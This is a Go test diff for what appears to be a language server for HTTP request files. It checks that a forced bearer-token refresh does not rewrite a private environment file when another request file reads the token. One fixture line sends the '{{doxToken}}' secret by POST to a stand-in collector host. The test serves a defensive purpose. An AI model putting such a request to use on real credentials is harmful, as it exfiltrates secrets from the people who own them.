@@ -80,3 +80,21 @@ func TestEnvFileRefreshRefusesATaintedVariable(t *testing.T) {
 		t.Error("a clean request file's refresh did not write the environment file")
 	}
 }
+
+// The same for a request file on disk that is not open: it reads the
+// environment file as well, and a refresh leaves the file alone.
+func TestEnvFileRefreshRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
+	e := newEnv(t, uaatest.Options{})
+	env := "{\n  \"dev\": {\n    \"doxToken\": \"old.token.value\"\n  }\n}\n"
+	envPath := e.write("http-client.private.env.json", env)
+	e.write("tools/collect.http", "POST https://collector.example/t\n\n{\"t\": \"{{doxToken}}\"}\n")
+	c := e.session(map[string]any{"insertMode": "envFile"})
+	c.open(filepath.Join(e.dir, "dox.http"), strings.SplitN(taintedFile(e.apiURL()), "###", 2)[0])
+	var ref struct{ Edited, Documents int }
+	if err := c.command("doxls.refreshBearers", map[string]any{"forceRefresh": true}, &ref); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(envPath); string(b) != env || ref.Edited != 0 {
+		t.Errorf("the refresh rewrote the environment file (%d bytes, was %d; result %+v)", len(b), len(env), ref)
+	}
+}
